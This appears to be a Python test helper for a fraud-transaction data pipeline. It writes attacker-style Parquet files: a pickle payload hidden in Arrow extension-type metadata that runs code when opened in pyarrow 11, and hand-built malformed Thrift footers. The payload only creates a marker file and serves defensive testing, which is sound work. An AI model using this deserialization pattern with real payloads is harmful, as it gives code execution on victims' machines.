"""Parquet files that an attacker would write: code in the schema, and footers made by hand."""

import pickle
import struct
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any, Final

import pyarrow as pa
import pyarrow.parquet as pq

INT32: Final = 1
"""Parquet's number of the type."""
_I32, _I64, _TEXT, _LIST, _STRUCT = 5, 6, 8, 9, 12
"""Types of Thrift's compact protocol."""
Field = tuple[int, int, Any]
NEEDED: Final = {
    "transaction_id": pa.array(["T1"]),
    "event_time": pa.array(["2026-01-02T03:04:05Z"]),
    "available_at": pa.array(["2026-01-03T03:04:05Z"]),
    "is_fraud": pa.array([True]),
    "account_id": pa.array(["A1"]),
    "transaction_amount_vnd": pa.array([1.0]),
}
"""Columns of a file that is both transactions and labels."""


class OpensFile:
    """Creates a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        """Return the call that unpickling makes."""
        return open, (str(self._path), "w")


def write_with_column(path: Path, name: str, column: pa.Array, *, field: pa.Field | None = None) -> Path:
    """Write a file of one record with the needed columns, and one more."""
    columns = NEEDED | {name: column}
    fields = [pa.field(key, value.type) for key, value in columns.items() if key != name]
    schema = pa.schema([*fields, field or pa.field(name, column.type)])
    arrays = [columns[each] for each in schema.names]
    pq.write_table(pa.Table.from_arrays(arrays, schema=schema), path)
    return path


def write_pickle(path: Path, marker: Path, place: str = "column") -> Path:
    """Write a file that makes pyarrow 11 create ``marker`` when the file is opened."""
    code = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(OpensFile(marker)),
    }
    inner = pa.field("item", pa.binary(), metadata=code)
    if place == "column":
        field = pa.field("evil", pa.binary(), metadata=code)
        return write_with_column(path, "evil", pa.array([b"x"]), field=field)
    outer = {"list": pa.list_(inner), "struct": pa.struct([inner])}[place]
    value: Any = {"list": [b"x"], "struct": {"item": b"x"}}[place]
    return write_with_column(path, "evil", pa.array([value], outer))


def file_of(schema: Iterable[list[Field]], groups: Iterable[list[Field]] = (), rows: int = 0) -> bytes:
    """Return a file without data that has this footer."""
    footer = _encoded(
        _STRUCT,
        [
            (1, _I32, 1),
            (2, _LIST, (_STRUCT, list(schema))),
            (3, _I64, rows),
            (4, _LIST, (_STRUCT, list(groups))),
        ],
    )
    return b"PAR1" + footer + struct.pack("<I", len(footer)) + b"PAR1"


def element(name: str, children: int | None = None) -> list[Field]:
    """Return a column of a schema, or a group with this many children."""
    kind: list[Field] = [(1, _I32, INT32)] if children is None else []
    count: list[Field] = [] if children is None else [(5, _I32, children)]
    return [*kind, (3, _I32, 1), (4, _TEXT, name.encode()), *count]


def row_group() -> list[Field]:
    """Return a row group without columns or rows."""
    return [(1, _LIST, (_STRUCT, [])), (2, _I64, 0), (3, _I64, 0)]


def _encoded(kind: int, value: Any) -> bytes:  # noqa: ANN401 - a value of any type of Thrift
    if kind in {_I32, _I64}:
        return _varint(value << 1)
    if kind == _TEXT:
        return _varint(len(value)) + bytes(value)
    if kind == _LIST:
        inner, items = value
        return bytes([0xF0 | inner]) + _varint(len(items)) + b"".join(_encoded(inner, item) for item in items)
    parts, last = [], 0
    for number, inner, content in value:
        parts.append(bytes([(number - last) << 4 | inner]) + _encoded(inner, content))
        last = number
    return b"".join(parts) + b"\0"


def _varint(number: int) -> bytes:
    found = bytearray()
    while number > 0x7F:
        found.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*found, number])
